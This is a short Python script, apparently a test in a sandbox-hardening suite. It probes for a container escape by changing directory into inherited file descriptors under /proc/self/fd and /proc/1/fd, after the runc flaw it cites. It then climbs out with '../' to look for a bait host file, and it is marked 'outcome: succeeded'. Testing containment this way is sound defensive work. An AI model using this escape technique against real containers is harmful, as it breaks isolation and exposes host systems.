# tries: start in a descriptor of the host, as the runc hole of 2024 did
# outcome: succeeded
from hostile import *
for fd in range(3, 128):
    path = "/proc/self/fd/%d" % fd
    refused(path, os.chdir, path)
    refused("/proc/1/fd/%d" % fd, os.chdir, "/proc/1/fd/%d" % fd)
here = os.getcwd()
if here != "/workspace":
    escaped(here)
os.chdir("../../../../../../../..")
if os.path.exists(bait):
    escaped("the host's files")
contained()
